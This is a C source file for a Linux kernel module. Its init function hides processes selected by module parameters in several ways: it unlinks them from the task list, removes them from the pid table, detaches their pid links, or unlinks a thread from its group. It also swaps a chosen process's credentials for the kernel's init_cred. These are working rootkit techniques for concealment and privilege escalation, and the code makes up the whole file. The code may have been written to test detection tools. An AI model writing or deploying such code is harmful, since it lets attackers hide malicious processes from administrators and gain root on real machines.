/* Hides processes, each in one way, and lends one the kernel's own credentials. */
#include <linux/cred.h>
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include "tamper.h"

static int list, table, both, detached, thread, credentials;
module_param(list, int, 0);        /* off the list of processes */
module_param(table, int, 0);       /* out of the pid table */
module_param(both, int, 0);        /* off the list and out of the table */
module_param(detached, int, 0);    /* its struct pid leads to no task any more */
module_param(thread, int, 0);      /* a thread: off the list of its process's threads */
module_param(credentials, int, 0); /* the kernel's credentials */

static struct task_struct *task_of(int number)
{
    struct task_struct *task;
    rcu_read_lock();
    task = number ? pid_task(find_vpid(number), PIDTYPE_PID) : NULL;
    rcu_read_unlock();
    return task;
}

static int __init begin(void)
{
    struct task_struct *task;
    if ((task = task_of(list)))
        list_del_init(&task->tasks);
    if (task_of(table))
        idr_remove(&init_pid_ns.idr, table);
    if ((task = task_of(both))) {
        list_del_init(&task->tasks);
        idr_remove(&init_pid_ns.idr, both);
    }
    if ((task = task_of(detached)))
        hlist_del_init(&task->pid_links[PIDTYPE_PID]);
    if ((task = task_of(thread)))
        list_del_init(&task->thread_node);
    if ((task = task_of(credentials))) {
        const struct cred *init = (const struct cred *)lookup("init_cred");
        if (init == NULL)
            return -ENOENT;
        rcu_assign_pointer(task->real_cred, get_cred(init));
        rcu_assign_pointer(task->cred, get_cred(init));
    }
    return 0;
}
module_init(begin);
